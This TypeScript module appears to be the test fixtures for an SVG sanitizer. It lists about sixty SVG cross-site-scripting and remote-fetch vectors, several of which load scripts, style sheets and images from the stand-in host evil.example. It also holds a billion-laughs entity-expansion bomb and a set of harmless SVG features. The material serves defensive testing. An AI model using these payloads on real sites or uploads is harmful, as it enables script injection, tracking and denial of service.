/** Wraps content in an SVG. */
export const svgOf = (content: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`

const act = "alert('xss');document.title='xss'"
const inside = (content: string): string =>
  svgOf(content).replace('<svg ', '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" ')

/** SVG files that run code or fetch from evil.example unless they are sanitized. Each sets the title to "xss" if it runs. */
export const vectors: [string, string][] = [
  ['a script', inside(`<script>${act}</script>`)],
  ['a script of another case', inside(`<SCRIPT>${act}</SCRIPT><sCrIpT>${act}</sCrIpT>`)],
  ['a script in CDATA', inside(`<script><![CDATA[${act}]]></script>`)],
  ['a script from elsewhere', inside('<script href="https://evil.example/x.js"/>')],
  ['a script from elsewhere by XLink', inside('<script xlink:href="data:text/javascript,alert(1)"/>')],
  ['a script of HTML', inside(`<script xmlns="http://www.w3.org/1999/xhtml">${act}</script>`)],
  ['a script with a prefix', inside(`<x:script xmlns:x="http://www.w3.org/2000/svg">${act}</x:script>`)],
  ['a script of HTML with a prefix', inside(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${act}</h:script>`)],
  ['a script in a group', inside(`<g><defs><script>${act}</script></defs></g>`)],
  ['a script in a title', inside(`<title><script xmlns="http://www.w3.org/1999/xhtml">${act}</script></title>`)],
  ['a script in a style', inside(`<style><script>${act}</script></style>`)],
  ['a script behind a style that seems to end', inside(`<style><![CDATA[</style><script>${act}</script>]]></style>`)],
  ['a script in a comment that seems to end', inside(`<!-- -&gt; -><script>${act}</script> -->`)],
  ['a processing instruction', `<?xml-stylesheet href="javascript:alert(1)"?>${inside('<g/>')}`],
  ['an external style sheet', `<?xml-stylesheet type="text/css" href="https://evil.example/x.css"?>${inside('<g/>')}`],
  [
    'XSLT',
    `<?xml-stylesheet type="text/xsl" href="#s"?>${inside(`<xsl:stylesheet id="s" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><script>${act}</script></xsl:stylesheet>`)}`,
  ],
  ['a handler of the root', `<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"/>`],
  ['a handler of another case', inside(`<g OnLoad="${act}" ONCLICK="${act}"/>`)],
  ['a handler of an image', inside(`<image href="x" onerror="${act}"/>`)],
  ['a handler with a prefix', inside(`<g xmlns:x="http://www.w3.org/2000/svg" x:onload="${act}"/>`)],
  ['a handler with a character reference', inside(`<g onload="&#97;lert(1)"/>`)],
  ['a handler that gets the focus', inside(`<g tabindex="1" onfocusin="${act}" autofocus=""/>`)],
  ['a handler of an animation', inside(`<animate attributeName="x" dur="1s" onbegin="${act}"/>`)],
  [
    'an animation that sets an href',
    inside(`<a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a>`),
  ],
  ['a set that sets a handler', inside(`<g><set attributeName="onmouseover" to="alert(1)"/></g>`)],
  [
    'an animation of a use element',
    inside(
      `<use><animate attributeName="xlink:href" values="data:image/svg+xml,&lt;svg onload='alert(1)'/&gt;"/></use>`,
    ),
  ],
  ['a link that acts', inside(`<a href="javascript:alert(1)"><text y="20">x</text></a>`)],
  ['a link that acts by XLink', inside(`<a xlink:href="javascript:alert(1)"><text y="20">x</text></a>`)],
  ['a link that acts after white space', inside(`<a href=" &#9;java&#10;script:alert(1)"><text y="20">x</text></a>`)],
  ['a link with data', inside(`<a href="data:text/html,alert(1)"><text y="20">x</text></a>`)],
  [
    'foreign content',
    inside(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${act}"/></foreignObject>`,
    ),
  ],
  [
    'a frame',
    inside(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>`),
  ],
  ['a frame without foreign content', inside(`<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="alert(1)"/>`)],
  ['an image of HTML', inside(`<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${act}"/>`)],
  [
    'an embedded page',
    inside(
      '<embed xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/><object xmlns="http://www.w3.org/1999/xhtml" data="javascript:alert(1)"/>',
    ),
  ],
  ['a use of another file', inside('<use href="https://evil.example/x.svg#a"/>')],
  [
    'a use element with a data URL',
    inside(
      `<use href="data:image/svg+xml;base64,${Buffer.from(svgOf(`<g id="a" onload="${act}"/>`)).toString('base64')}#a"/>`,
    ),
  ],
  ['an image from elsewhere', inside('<image href="https://evil.example/x.png" width="9" height="9"/>')],
  ['an image without a scheme', inside('<image xlink:href="//evil.example/x.png" width="9" height="9"/>')],
  [
    'an image element with an SVG',
    inside(
      `<image href="data:image/svg+xml;base64,${Buffer.from(svgOf(`<script>${act}</script>`)).toString('base64')}"/>`,
    ),
  ],
  ['a filter image from elsewhere', inside('<filter id="f"><feImage href="https://evil.example/x.svg"/></filter>')],
  ['a fill from elsewhere', inside('<rect width="9" height="9" fill="url(https://evil.example/x.svg#p)"/>')],
  ['a style that imports', inside('<style>@import url("https://evil.example/x.css");</style>')],
  ['a style that imports behind escapes', inside('<style>@\\69mport "https://evil.example/x.css";</style>')],
  ['a style that fetches', inside('<style>rect{fill:url(https://evil.example/x.svg#p)}</style>')],
  [
    'a style with a URL behind a comment',
    inside(
      '<style>rect{background:u/**/rl(https://evil.example/x.png);background:url(/*#*/"https://evil.example/x.png")}</style>',
    ),
  ],
  [
    'a style with an external font',
    inside('<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>'),
  ],
  [
    'a style with an image set',
    inside('<style>rect{background-image:image-set("https://evil.example/x.png" 1x)}</style>'),
  ],
  [
    'a style with a URL as the fallback of a variable',
    inside('<style>rect{fill:var(--x, url(https://evil.example/x.svg#p))}</style>'),
  ],
  ['an attribute that fetches in brackets', inside('<rect fill="(url(https://evil.example/x.svg#p))"/>')],
  [
    'an attribute with an external URL after a local one',
    inside('<rect fill="url(#p)url(https://evil.example/x.svg#p)"/>'),
  ],
  ['a style that fetches by an address with brackets', inside('<rect fill="url(https://evil.example/(url(#p))"/>')],
  ['an attribute with a style that fetches', inside('<rect style="fill:url(\'https://evil.example/x.svg#p\')"/>')],
  ['a style attribute with an escaped URL', inside('<rect style="background:\\75rl(https://evil.example/x.png)"/>')],
  [
    'another handler event',
    inside('<handler xmlns="http://www.w3.org/2000/svg" type="text/javascript">alert(1)</handler>'),
  ],
  [
    'XInclude',
    inside('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="https://evil.example/x" parse="text"/>'),
  ],
  ['a base', inside('<g xml:base="https://evil.example/"/>')],
  ['an entity that is a handler', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${act}">]>${inside('<g/>')}`],
  [
    'a meta refresh',
    inside('<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/>'),
  ],
  ['a drawing in a drawing', inside(`<svg onload="${act}"><script>${act}</script></svg>`)],
  [
    'metadata with a script',
    inside(`<metadata><script>${act}</script><x:y xmlns:x="urn:x" onload="${act}"/></metadata>`),
  ],
]

export const billionLaughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a0 "ha">${Array.from(
  { length: 30 },
  (_, index) => `<!ENTITY a${index + 1} "&a${index};&a${index};">`,
).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&a30;</text></svg>`

/** Features that legitimate SVG files need. */
export const harmless: [string, string][] = [
  ['shapes', '<path d="M0 0L10 10z" fill="#b4552d"></path><circle cx="5" cy="5" r="4"></circle>'],
  [
    'gradients',
    '<defs><linearGradient id="g" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="red"></stop></linearGradient></defs><rect fill="url(#g)"></rect>',
  ],
  ['transforms and groups', '<g transform="translate(1 2) rotate(45)" opacity=".5"><line x1="0" x2="9"></line></g>'],
  ['text in any script', '<text x="1" y="2" font-family="Outfit, sans-serif">Brot &amp; Käse 面包 &lt;3</text>'],
  ['symbols that are used', '<symbol id="s"><path d="M0 0"></path></symbol><use href="#s"></use>'],
  ['pictures inside', '<image href="data:image/png;base64,iVBORw0KGgo=" width="9"></image>'],
  [
    'filters',
    '<filter id="f"><feGaussianBlur stdDeviation="2"></feGaussianBlur></filter><rect filter="url(#f)"></rect>',
  ],
  [
    'styles',
    '<style>.a{fill:rgb(1,2,3)} @media (prefers-color-scheme: dark){.a:not(.b){fill:url(#g)}}</style><rect class="a" style="fill:var(--a);stroke:url(#g)"></rect>',
  ],
  [
    'masks and clip paths',
    '<clipPath id="c"><rect></rect></clipPath><mask id="m"></mask><g clip-path="url(#c)" mask="url(#m)"></g>',
  ],
  ['text for screen readers', '<title>A loaf</title><desc>Of bread</desc><g role="img" aria-label="Loaf"></g>'],
]
